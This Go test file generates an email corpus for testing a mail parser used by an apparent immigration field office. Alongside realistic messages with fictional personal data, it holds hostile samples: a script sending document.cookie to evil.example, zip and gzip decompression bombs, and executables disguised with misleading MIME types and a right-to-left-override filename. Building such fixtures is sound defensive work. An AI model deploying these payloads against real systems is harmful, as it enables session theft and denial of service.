package fieldprint

import (
	"archive/zip"
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"flag"
	"fmt"
	"mime/quotedprintable"
	"net/url"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/jung-kurt/gofpdf"

	"golang.org/x/text/encoding"
	"golang.org/x/text/encoding/charmap"
	"golang.org/x/text/encoding/japanese"
	"golang.org/x/text/encoding/korean"
	"golang.org/x/text/encoding/simplifiedchinese"
	"golang.org/x/text/encoding/traditionalchinese"
)

var updateMail = flag.Bool("update-mail", false, "rewrite testdata/mail from mailCorpus")

const mailDir = "testdata/mail"

// mailBuilder writes one message as mail programs do: CRLF lines, base64
// wrapped at 76 columns.
type mailBuilder struct{ b bytes.Buffer }

func (m *mailBuilder) line(format string, args ...any) *mailBuilder {
	fmt.Fprintf(&m.b, format, args...)
	m.b.WriteString("\r\n")
	return m
}

func (m *mailBuilder) raw(s string) *mailBuilder {
	m.b.WriteString(strings.ReplaceAll(strings.ReplaceAll(s, "\r\n", "\n"), "\n", "\r\n"))
	return m
}

func (m *mailBuilder) base64(data []byte) *mailBuilder {
	s := base64.StdEncoding.EncodeToString(data)
	for len(s) > 76 {
		m.line("%s", s[:76])
		s = s[76:]
	}
	return m.line("%s", s)
}

func (m *mailBuilder) qp(text string) *mailBuilder {
	var b bytes.Buffer
	w := quotedprintable.NewWriter(&b)
	w.Write([]byte(strings.ReplaceAll(text, "\n", "\r\n")))
	w.Close()
	m.b.Write(b.Bytes())
	return m.line("")
}

func (m *mailBuilder) bytes() []byte { return m.b.Bytes() }

// encodeIn encodes s in a legacy charset.
func encodeIn(t testing.TB, e encoding.Encoding, s string) []byte {
	b, err := e.NewEncoder().Bytes([]byte(s))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// word is an RFC 2047 encoded word of s in charset (B encoding).
func word(t testing.TB, charset string, e encoding.Encoding, s string) string {
	b := []byte(s)
	if e != nil {
		b = encodeIn(t, e, s)
	}
	return "=?" + charset + "?B?" + base64.StdEncoding.EncodeToString(b) + "?="
}

// qword is an RFC 2047 Q-encoded word (as Apple Mail and Thunderbird write them).
func qword(t testing.TB, charset string, e encoding.Encoding, s string) string {
	b := []byte(s)
	if e != nil {
		b = encodeIn(t, e, s)
	}
	var out strings.Builder
	for _, c := range b {
		switch {
		case c == ' ':
			out.WriteByte('_')
		case c >= 'a' && c <= 'z', c >= 'A' && c <= 'Z', c >= '0' && c <= '9':
			out.WriteByte(c)
		default:
			fmt.Fprintf(&out, "=%02X", c)
		}
	}
	return "=?" + charset + "?Q?" + out.String() + "?="
}

func zipBomb(t testing.TB) []byte {
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	w, err := zw.CreateHeader(&zip.FileHeader{Name: "scan.pdf", Method: zip.Deflate, Modified: time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)})
	if err != nil {
		t.Fatal(err)
	}
	zero := make([]byte, 1<<20)
	for range 64 { // 64 MB of zeros: a few kilobytes zipped
		w.Write(zero)
	}
	zw.Close()
	return b.Bytes()
}

func gzipBomb(t testing.TB) []byte {
	var b bytes.Buffer
	zw, _ := gzip.NewWriterLevel(&b, gzip.BestCompression)
	zw.ModTime = time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
	zero := make([]byte, 1<<20)
	for range 64 {
		zw.Write(zero)
	}
	zw.Close()
	return b.Bytes()
}

// mailPDF is a scanned notice as a scanner's PDF: gofpdf, compressed, with
// a picture, made the same way every time (fixed date, sorted catalog).
func mailPDF(t testing.TB) []byte {
	pdf := gofpdf.New("P", "pt", "Letter", "")
	pdf.SetCatalogSort(true)
	pdf.SetCreationDate(time.Date(2026, 11, 2, 9, 0, 0, 0, time.UTC))
	pdf.SetModificationDate(time.Date(2026, 11, 2, 9, 0, 0, 0, time.UTC))
	pdf.AddPage()
	pdf.SetFont("Helvetica", "B", 16)
	pdf.Cell(0, 24, "I-797C Notice of Action (scan)")
	opts := gofpdf.ImageOptions{ImageType: "JPG"}
	pdf.RegisterImageOptionsReader("page", opts, bytes.NewReader(sniffJPEG(t, 64, 48)))
	pdf.ImageOptions("page", 36, 100, 540, 405, false, opts, 0, "")
	var b bytes.Buffer
	if err := pdf.Output(&b); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// mailCorpus is testdata/mail: realistic messages as Gmail, Outlook and
// Apple Mail save them, and hostile ones. Regenerate with
// go test -run TestMailCorpusUpToDate -update-mail .
func mailCorpus(t testing.TB) map[string][]byte {
	out := map[string][]byte{}
	pdf := mailPDF(t)
	jpg := sniffJPEG(t, 64, 48)
	png := sniffPNG(t, 40, 30)
	logo := sniffPNG(t, 8, 8)

	// Gmail: multipart/mixed around multipart/alternative, quoted-printable
	// text, attachments with X-Attachment-Id. 319(b), everything in the text.
	{
		m := &mailBuilder{}
		m.line("MIME-Version: 1.0").
			line("Date: Mon, 2 Nov 2026 09:14:27 +0800").
			line("Message-ID: <CAJ7x2Ke+9pQ_n3Vt0mXb4Lr=Qw@mail.gmail.com>").
			line("Subject: Request to collect biometrics at Guangzhou - IOE0912345678").
			line("From: Wei Zhang <wei.zhang.1985@gmail.com>").
			line("To: guangzhou.fieldoffice@uscis.dhs.gov").
			line(`Content-Type: multipart/mixed; boundary="000000000000a1b2c3d4e5f60718"`).
			line("").
			line("--000000000000a1b2c3d4e5f60718").
			line(`Content-Type: multipart/alternative; boundary="000000000000a1b2c3d4e5f60716"`).
			line("").
			line("--000000000000a1b2c3d4e5f60716").
			line(`Content-Type: text/plain; charset="UTF-8"`).
			line("Content-Transfer-Encoding: quoted-printable").
			line("").
			qp("Dear Officer,\n\nI am the spouse of a U.S. citizen employed by the U.S. Consulate General in Guangzhou, and I am applying for expedited naturalization under INA 319(b). My husband's assignment runs until 2028.\n\nI kindly ask that my biometrics be collected at your office. My receipt number is IOE0912345678 and my A-number is A-212-345-678. Date of birth: 1985-04-12.\n\nAttached are my I-797C receipt notice and my passport biographic page.\n\nThank you,\nWei Zhang\nMobile: +86 138 0013 8000\n").
			line("--000000000000a1b2c3d4e5f60716").
			line(`Content-Type: text/html; charset="UTF-8"`).
			line("Content-Transfer-Encoding: quoted-printable").
			line("").
			qp(`<div dir="ltr">Dear Officer,<div><br></div><div>I am the spouse of a U.S. citizen employed by the U.S. Consulate General in Guangzhou &hellip;</div></div>`).
			line("--000000000000a1b2c3d4e5f60716--").
			line("--000000000000a1b2c3d4e5f60718").
			line(`Content-Type: application/pdf; name="I-797C receipt notice.pdf"`).
			line(`Content-Disposition: attachment; filename="I-797C receipt notice.pdf"`).
			line("Content-Transfer-Encoding: base64").
			line("Content-ID: <f_mh3k1x2a0>").
			line("X-Attachment-Id: f_mh3k1x2a0").
			line("").
			base64(pdf).
			line("--000000000000a1b2c3d4e5f60718").
			line(`Content-Type: image/jpeg; name="passport.jpg"`).
			line(`Content-Disposition: attachment; filename="passport.jpg"`).
			line("Content-Transfer-Encoding: base64").
			line("X-Attachment-Id: f_mh3k1x2b1").
			line("").
			base64(jpg).
			line("--000000000000a1b2c3d4e5f60718--")
		out["gmail.eml"] = m.bytes()
	}
	// The same applicant writes again (Gmail, a reply): no number, the
	// renewed passport's page. A duplicate by sender.
	{
		m := &mailBuilder{}
		m.line("MIME-Version: 1.0").
			line("Date: Tue, 10 Nov 2026 18:02:11 +0800").
			line("References: <CAJ7x2Ke+9pQ_n3Vt0mXb4Lr=Qw@mail.gmail.com>").
			line("In-Reply-To: <CAJ7x2Ke+9pQ_n3Vt0mXb4Lr=Qw@mail.gmail.com>").
			line("Message-ID: <CAJ7x2KfZ0u8w1_Yq7Hn2Vd@mail.gmail.com>").
			line("Subject: Re: Request to collect biometrics at Guangzhou").
			line("From: Wei Zhang <wei.zhang.1985@gmail.com>").
			line("To: guangzhou.fieldoffice@uscis.dhs.gov").
			line(`Content-Type: multipart/mixed; boundary="000000000000f1e2d3c4b5a69788"`).
			line("").
			line("--000000000000f1e2d3c4b5a69788").
			line(`Content-Type: text/plain; charset="UTF-8"`).
			line("").
			raw("Dear Officer,\n\nMy passport was renewed: here is the new biographic page.\n\nWei Zhang\n\nOn Mon, Nov 2, 2026 at 9:14 AM Wei Zhang <wei.zhang.1985@gmail.com> wrote:\n> Dear Officer,\n> My receipt number is IOE0912345678\n").
			line("--000000000000f1e2d3c4b5a69788").
			line(`Content-Type: image/jpeg; name="new passport page.jpg"`).
			line(`Content-Disposition: attachment; filename="new passport page.jpg"`).
			line("Content-Transfer-Encoding: base64").
			line("").
			base64(sniffJPEG(t, 48, 64)).
			line("--000000000000f1e2d3c4b5a69788--")
		out["gmail-followup.eml"] = m.bytes()
	}
	// Outlook (Windows, Chinese): GB2312 name, subject and text; the
	// passport's name an encoded word inside the quotes; the notice's an
	// RFC 2231 value in GB2312; the signature's logo inline. Adoption.
	{
		gb := simplifiedchinese.GBK
		text := "您好，\r\n\r\n我们是收养家庭，已提交 I-600A 申请（收养）。希望在广州办公室采集生物信息。\r\n收据号码：IOE-09-234-56789\r\nA-number: 098765432\r\n电话：+86 20 3814 5000\r\n\r\n王芳\r\n"
		m := &mailBuilder{}
		m.line("From: %s <wang.fang@outlook.com>", word(t, "gb2312", gb, "王芳")).
			line("To: \"Guangzhou Field Office\" <guangzhou.fieldoffice@uscis.dhs.gov>").
			line("Subject: %s", word(t, "gb2312", gb, "关于收养家庭生物信息采集的申请")).
			line("Thread-Topic: %s", word(t, "gb2312", gb, "关于收养家庭生物信息采集的申请")).
			line("Thread-Index: AdtNXk3Ttm6ZrCk9QpKjJ0eVq3xqAA==").
			line("Date: Wed, 4 Nov 2026 03:25:40 +0000").
			line("Message-ID: <TYZPR06MB6190A1B2C3D4E5F6A7B8C9D0E1@TYZPR06MB6190.apcprd06.prod.outlook.com>").
			line("Accept-Language: zh-CN, en-US").
			line("Content-Language: zh-CN").
			line("X-MS-Has-Attach: yes").
			line("X-MS-TNEF-Correlator:").
			line(`Content-Type: multipart/mixed; boundary="_005_TYZPR06MB6190A1B2C3D4E5F6A7B8C9D0E1TYZPR06MB6190apcp_"`).
			line("MIME-Version: 1.0").
			line("").
			line("--_005_TYZPR06MB6190A1B2C3D4E5F6A7B8C9D0E1TYZPR06MB6190apcp_").
			line(`Content-Type: multipart/related; boundary="_004_TYZPR06MB6190A1B2C3D4E5F6A7B8C9D0E1TYZPR06MB6190apcp_"; type="multipart/alternative"`).
			line("").
			line("--_004_TYZPR06MB6190A1B2C3D4E5F6A7B8C9D0E1TYZPR06MB6190apcp_").
			line(`Content-Type: multipart/alternative; boundary="_000_TYZPR06MB6190A1B2C3D4E5F6A7B8C9D0E1TYZPR06MB6190apcp_"`).
			line("").
			line("--_000_TYZPR06MB6190A1B2C3D4E5F6A7B8C9D0E1TYZPR06MB6190apcp_").
			line(`Content-Type: text/plain; charset="gb2312"`).
			line("Content-Transfer-Encoding: base64").
			line("").
			base64(encodeIn(t, gb, text)).
			line("").
			line("--_000_TYZPR06MB6190A1B2C3D4E5F6A7B8C9D0E1TYZPR06MB6190apcp_").
			line(`Content-Type: text/html; charset="gb2312"`).
			line("Content-Transfer-Encoding: base64").
			line("").
			base64(encodeIn(t, gb, "<html><head><style>p{margin:0}</style></head><body><p>您好，</p><p>我们是收养家庭</p><img src=\"cid:image001.png@01DB2E8A.5F1C2B30\"></body></html>")).
			line("").
			line("--_000_TYZPR06MB6190A1B2C3D4E5F6A7B8C9D0E1TYZPR06MB6190apcp_--").
			line("").
			line("--_004_TYZPR06MB6190A1B2C3D4E5F6A7B8C9D0E1TYZPR06MB6190apcp_").
			line(`Content-Type: image/png; name="image001.png"`).
			line(`Content-Description: image001.png`).
			line(`Content-Disposition: inline; filename="image001.png"; size=%d;`, len(logo)).
			line("Content-ID: <image001.png@01DB2E8A.5F1C2B30>").
			line("Content-Transfer-Encoding: base64").
			line("").
			base64(logo).
			line("").
			line("--_004_TYZPR06MB6190A1B2C3D4E5F6A7B8C9D0E1TYZPR06MB6190apcp_--").
			line("").
			line("--_005_TYZPR06MB6190A1B2C3D4E5F6A7B8C9D0E1TYZPR06MB6190apcp_").
			line(`Content-Type: image/jpeg; name="%s"`, word(t, "gb2312", gb, "王芳护照.jpg")).
			line(`Content-Description: %s`, word(t, "gb2312", gb, "王芳护照.jpg")).
			line(`Content-Disposition: attachment; filename="%s"; size=%d;`, word(t, "gb2312", gb, "王芳护照.jpg"), len(jpg)).
			line("Content-Transfer-Encoding: base64").
			line("").
			base64(jpg).
			line("").
			line("--_005_TYZPR06MB6190A1B2C3D4E5F6A7B8C9D0E1TYZPR06MB6190apcp_").
			line(`Content-Type: application/pdf`).
			line(`Content-Disposition: attachment; filename*=gb2312''%s`, url.PathEscape(string(encodeIn(t, gb, "收据通知 I-797C.pdf")))).
			line("Content-Transfer-Encoding: base64").
			line("").
			base64(pdf).
			line("").
			line("--_005_TYZPR06MB6190A1B2C3D4E5F6A7B8C9D0E1TYZPR06MB6190apcp_--")
		out["outlook.eml"] = m.bytes()
	}
	// Apple Mail (Taiwan): Big5 name in Q encoding, format=flowed text in
	// two parts around an inline photo named .HEIC that is really a JPEG,
	// and a PNG whose name is an RFC 2231 continuation in UTF-8. Military.
	{
		b5 := traditionalchinese.Big5
		m := &mailBuilder{}
		m.line("From: %s <meiling.chen@icloud.com>", qword(t, "big5", b5, "陳美玲")).
			line("Content-Type: multipart/mixed; boundary=\"Apple-Mail=_5B7E3C1A-2D4F-4A6B-9C8D-0E1F2A3B4C5D\"").
			line("Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3826.200.121\\))").
			line("Subject: Fingerprints for military naturalization").
			line("Date: Thu, 12 Nov 2026 21:40:05 +0800").
			line("Message-Id: <8F1D2C3B-4A5E-4F60-9A7B-1C2D3E4F5A6B@icloud.com>").
			line("To: guangzhou.fieldoffice@uscis.dhs.gov").
			line("X-Mailer: Apple Mail (2.3826.200.121)").
			line("").
			line("").
			line("--Apple-Mail=_5B7E3C1A-2D4F-4A6B-9C8D-0E1F2A3B4C5D").
			line("Content-Transfer-Encoding: 7bit").
			line("Content-Type: text/plain;").
			line("\tcharset=us-ascii;").
			line("\tformat=flowed").
			line("").
			raw("Hello,\n\nMy husband is an active duty soldier of the U.S. Army stationed in \nTaiwan and I am applying for naturalization as a military spouse \n(INA 319(e)). Our receipt is IOE 0923456789. Photo of my notice \nbelow.\n").
			line("--Apple-Mail=_5B7E3C1A-2D4F-4A6B-9C8D-0E1F2A3B4C5D").
			line("Content-Disposition: inline;").
			line("\tfilename=IMG_0412.HEIC").
			line("Content-Type: image/jpeg;").
			line("\tx-unix-mode=0644;").
			line("\tname=\"IMG_0412.HEIC\"").
			line("Content-Transfer-Encoding: base64").
			line("").
			base64(sniffJPEG(t, 120, 90)).
			line("--Apple-Mail=_5B7E3C1A-2D4F-4A6B-9C8D-0E1F2A3B4C5D").
			line("Content-Transfer-Encoding: 7bit").
			line("Content-Type: text/plain;").
			line("\tcharset=us-ascii;").
			line("\tformat=flowed").
			line("").
			raw("And my passport:\n").
			line("--Apple-Mail=_5B7E3C1A-2D4F-4A6B-9C8D-0E1F2A3B4C5D").
			line("Content-Disposition: attachment;").
			line("\tfilename*0*=utf-8''%%E8%%AD%%B7%%E7%%85%%A7%%20passport;").
			line("\tfilename*1*=%%20page.png").
			line("Content-Type: image/png;").
			line("\tx-unix-mode=0644").
			line("Content-Transfer-Encoding: base64").
			line("").
			base64(png).
			line("--Apple-Mail=_5B7E3C1A-2D4F-4A6B-9C8D-0E1F2A3B4C5D").
			line("Content-Transfer-Encoding: 7bit").
			line("Content-Type: text/plain;").
			line("\tcharset=us-ascii").
			line("").
			raw("\nChen Mei-ling\nSent from my iPhone\n").
			line("--Apple-Mail=_5B7E3C1A-2D4F-4A6B-9C8D-0E1F2A3B4C5D--")
		out["applemail.eml"] = m.bytes()
	}
	// A web mail's HTML-only message, with a script, a style, a tracking
	// picture and entities. All others.
	{
		m := &mailBuilder{}
		m.line("Return-Path: <jm.rivera@yahoo.com>").
			line("Date: Sat, 14 Nov 2026 02:11:09 +0000 (UTC)").
			line("From: \"Rivera, Jose Manuel\" <jm.rivera@yahoo.com>").
			line("To: guangzhou.fieldoffice@uscis.dhs.gov").
			line("Message-ID: <1873462910.4412395.1763085069123@mail.yahoo.com>").
			line("Subject: URGENT - ASC appointment missed").
			line("MIME-Version: 1.0").
			line(`Content-Type: text/html; charset=UTF-8`).
			line("Content-Transfer-Encoding: quoted-printable").
			line("").
			qp("<html><head><title>hidden title</title><style>body{font-family:Arial} .x{display:none}</style><script>document.location='https://evil.example/'+document.cookie</script></head>" +
				"<body onload=\"alert(1)\"><div>Dear Sir or Madam,</div><div><br></div>" +
				"<div>I had an ASC appointment in Los Angeles on 2026-10-20 but had to leave the United States because my father had a stroke &ndash; I could not attend.</div>" +
				"<p>My receipt number is ioe-09-876-54321 &amp; my A# is A 087 654 321.</p>" +
				"<img src=\"https://tracker.example/pixel.gif?id=123\" width=1 height=1><!-- <p>hidden comment</p> -->" +
				"<script>new Image().src='https://evil.example/'</script><p>Jos&eacute; Manuel Rivera&nbsp;&#8212; tel. +52 55 1234 5678</p></body></html>\n")
		out["html-only.eml"] = m.bytes()
	}
	// A colleague forwards the applicant's message as an attachment
	// (Thunderbird): the inner message's text and scan are the applicant's.
	{
		inner := &mailBuilder{}
		inner.line("From: Ana Souza <ana.souza@example.com.br>").
			line("Date: Mon, 16 Nov 2026 10:00:00 -0300").
			line("Message-ID: <b1c2d3e4-f5a6-4b7c-8d9e-0f1a2b3c4d5e@example.com.br>").
			line("Subject: biometrics - adoption I-800").
			line("MIME-Version: 1.0").
			line(`Content-Type: multipart/mixed; boundary="inner-b"`).
			line("").
			line("--inner-b").
			line("Content-Type: text/plain; charset=ISO-8859-1").
			line("Content-Transfer-Encoding: quoted-printable").
			line("").
			qp(string(encodeIn(t, charmap.ISO8859_1, "Olá, we are adopting (I-800). Receipt IOE0934567890.\nAna Souza\n"))).
			line("--inner-b").
			line(`Content-Type: application/pdf; name="notice.pdf"`).
			line(`Content-Disposition: attachment; filename="notice.pdf"`).
			line("Content-Transfer-Encoding: base64").
			line("").
			base64(pdf).
			line("--inner-b--")
		m := &mailBuilder{}
		m.line("From: Front Desk <frontdesk@example.org>").
			line("Date: Tue, 17 Nov 2026 08:30:00 +0800").
			line("Message-ID: <fwd-4b5c6d7e@example.org>").
			line("Subject: Fwd: biometrics - adoption I-800").
			line("MIME-Version: 1.0").
			line("User-Agent: Mozilla Thunderbird").
			line(`Content-Type: multipart/mixed; boundary="outer-b"`).
			line("").
			line("--outer-b").
			line("Content-Type: text/plain; charset=UTF-8").
			line("").
			raw("Forwarding the applicant's message.\n").
			line("--outer-b").
			line(`Content-Type: message/rfc822; name="biometrics - adoption I-800.eml"`).
			line(`Content-Disposition: attachment; filename="biometrics - adoption I-800.eml"`).
			line("").
			raw(string(inner.bytes())).
			line("--outer-b--")
		out["forwarded.eml"] = m.bytes()
	}

	// Hostile messages.
	hostileHead := func(m *mailBuilder, subject, ctype string) *mailBuilder {
		return m.line("From: Applicant <applicant@example.com>").
			line("Date: Wed, 18 Nov 2026 12:00:00 +0000").
			line("Message-ID: <%s@example.com>", strings.ReplaceAll(strings.ToLower(subject), " ", "-")).
			line("Subject: %s", subject).
			line("MIME-Version: 1.0").
			line("Content-Type: %s", ctype).
			line("")
	}
	attach := func(m *mailBuilder, boundary, ctype, name string, data []byte) {
		m.line("--%s", boundary).
			line(`Content-Type: %s; name="%s"`, ctype, name).
			line(`Content-Disposition: attachment; filename="%s"`, name).
			line("Content-Transfer-Encoding: base64").
			line("").
			base64(data)
	}
	text := func(m *mailBuilder, boundary, s string) {
		m.line("--%s", boundary).line("Content-Type: text/plain; charset=utf-8").line("").raw(s + "\n")
	}
	out["hostile-not-mail.eml"] = pdf
	out["hostile-outlook.msg"] = append([]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), make([]byte, 504)...)
	{
		m := &mailBuilder{}
		m.line("From: a@example.com").line("X-Junk: %s", strings.Repeat("x", 300<<10)).line("").line("body")
		out["hostile-huge-header.eml"] = m.bytes()
	}
	{
		m := &mailBuilder{}
		hostileHead(m, "nested", `multipart/mixed; boundary="n0"`)
		text(m, "n0", "Receipt IOE0912345679, the scans are deep inside.")
		for i := 1; i < 40; i++ {
			m.line("--n%d", i-1).line(`Content-Type: multipart/mixed; boundary="n%d"`, i).line("")
		}
		attach(m, "n39", "image/jpeg", "deep.jpg", jpg)
		for i := 39; i >= 0; i-- {
			m.line("--n%d--", i)
		}
		out["hostile-nested.eml"] = m.bytes()
	}
	{
		m := &mailBuilder{}
		hostileHead(m, "many parts", `multipart/mixed; boundary="p"`)
		text(m, "p", "Many parts.")
		for i := range 150 {
			m.line("--p").line(`Content-Type: application/octet-stream; name="part%03d.bin"`, i).line("").line("x")
		}
		m.line("--p--")
		out["hostile-many-parts.eml"] = m.bytes()
	}
	{
		m := &mailBuilder{}
		hostileHead(m, "misleading", `multipart/mixed; boundary="m"`)
		text(m, "m", "Receipt IOE0912345670. My documents attached.")
		attach(m, "m", "application/pdf", "I-797 notice.pdf", append([]byte("MZ\x90\x00\x03\x00\x00\x00"), make([]byte, 120)...))
		attach(m, "m", "image/jpeg", "scan.jpg", png)
		attach(m, "m", "image/png", "passport.png", []byte("<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"))
		attach(m, "m", "application/pdf", "invoice\u202Efdp.exe", append([]byte("MZ"), make([]byte, 64)...))
		attach(m, "m", "application/octet-stream", "winmail.dat", []byte("\x78\x9f\x3e\x22\x00\x00"))
		m.line("--m--")
		out["hostile-misleading.eml"] = m.bytes()
	}
	{
		m := &mailBuilder{}
		hostileHead(m, "zip bomb", `multipart/mixed; boundary="z"`)
		text(m, "z", "Receipt IOE0912345671. Everything in the archive.")
		attach(m, "z", "application/zip", "documents.zip", zipBomb(t))
		attach(m, "z", "application/gzip", "scan.pdf.gz", gzipBomb(t))
		m.line("--z--")
		out["hostile-zip-bomb.eml"] = m.bytes()
	}
	{
		m := &mailBuilder{}
		hostileHead(m, "broken", `multipart/mixed; boundary="b"`)
		text(m, "b", "Receipt IOE0912345672.")
		m.line("--b").line(`Content-Type: image/jpeg; name="cut.jpg"`).line("Content-Transfer-Encoding: base64").line("")
		m.base64(jpg[:len(jpg)/2])
		m.line("--b").line(`Content-Type: application/pdf; name="uu.pdf"`).line("Content-Transfer-Encoding: x-uuencode").line("").line("begin 644 uu.pdf")
		m.line("--b").line(`Content-Type: multipart/mixed`).line("").line("no boundary here")
		m.line("--b").line(`Content-Type: image/png; name="never-ends.png"`).line("Content-Transfer-Encoding: base64").line("")
		m.raw(base64.StdEncoding.EncodeToString(png)[:200] + "\n")
		// no closing boundary: the file ends here
		out["hostile-broken.eml"] = m.bytes()
	}
	{
		m := &mailBuilder{}
		subject := strings.Join([]string{
			word(t, "iso-8859-1", charmap.ISO8859_1, "Müller"),
			word(t, "windows-1252", charmap.Windows1252, "café—"),
			word(t, "koi8-r", charmap.KOI8R, "Иванов"),
			word(t, "shift_jis", japanese.ShiftJIS, "山田"),
			word(t, "euc-kr", korean.EUCKR, "김민준"),
			word(t, "iso-2022-jp", japanese.ISO2022JP, "東京"),
			"=?x-unknown-charset?B?AAEC?=",
			"=?utf-8?Q?broken",
		}, " ")
		m.line("From: %s <lukasz@example.pl>", word(t, "iso-8859-2", charmap.ISO8859_2, "Łukasz Żółć")).
			line("Date: Thu, 19 Nov 2026 07:00:00 +0100").
			line("Message-ID: <charsets-1@example.pl>").
			line("Subject: %s", subject).
			line("MIME-Version: 1.0").
			line(`Content-Type: multipart/mixed; boundary="c"`).
			line("")
		text(m, "c", "Numbers: ІОЕ0912345678 (Cyrillic), IOE０９１２３４５６７８ (full width), GUZ2018123456 (visa case), IOE091234567 (short), A-12-345 (short A-number).")
		attach(m, "c", "image/jpeg", word(t, "windows-1251", charmap.Windows1251, "паспорт.jpg"), jpg)
		m.line("--c--")
		out["hostile-charsets.eml"] = m.bytes()
	}
	msgCorpus(t, out, pdf, jpg, logo)
	return out
}

// keptMail are the files of testdata/mail that mailCorpus does not make:
// its README and real Outlook messages from other projects' tests (the
// README says whose, under which licence).
var keptMail = map[string]bool{
	".gitattributes": true, "README.md": true,
	"real-attachments.msg": true, "real-russian.msg": true, "real-cp1252.msg": true, "real-inner-message.msg": true,
}

func TestMailCorpusUpToDate(t *testing.T) {
	want := mailCorpus(t)
	if *updateMail {
		old, _ := filepath.Glob(filepath.Join(mailDir, "*"))
		for _, f := range old {
			if !keptMail[filepath.Base(f)] {
				os.Remove(f)
			}
		}
		if err := os.MkdirAll(mailDir, 0o755); err != nil {
			t.Fatal(err)
		}
		for name, data := range want {
			if err := os.WriteFile(filepath.Join(mailDir, name), data, 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
	entries, err := os.ReadDir(mailDir)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, e := range entries {
		if keptMail[e.Name()] {
			continue // .gitattributes keeps the CRLF lines as written
		}
		names = append(names, e.Name())
		got, _ := os.ReadFile(filepath.Join(mailDir, e.Name()))
		if w, ok := want[e.Name()]; !ok {
			t.Errorf("%s is not made by mailCorpus: remove it or run go test -run TestMailCorpusUpToDate -update-mail .", e.Name())
		} else if !bytes.Equal(got, w) {
			t.Errorf("%s differs from what mailCorpus makes: run go test -run TestMailCorpusUpToDate -update-mail .", e.Name())
		}
	}
	if len(names) != len(want) {
		var missing []string
		for n := range want {
			if _, err := os.Stat(filepath.Join(mailDir, n)); err != nil {
				missing = append(missing, n)
			}
		}
		sort.Strings(missing)
		t.Errorf("testdata/mail lacks %v: run go test -run TestMailCorpusUpToDate -update-mail .", missing)
	}
}

// readMail reads one message of the corpus.
func readMail(t testing.TB, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(mailDir, name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}
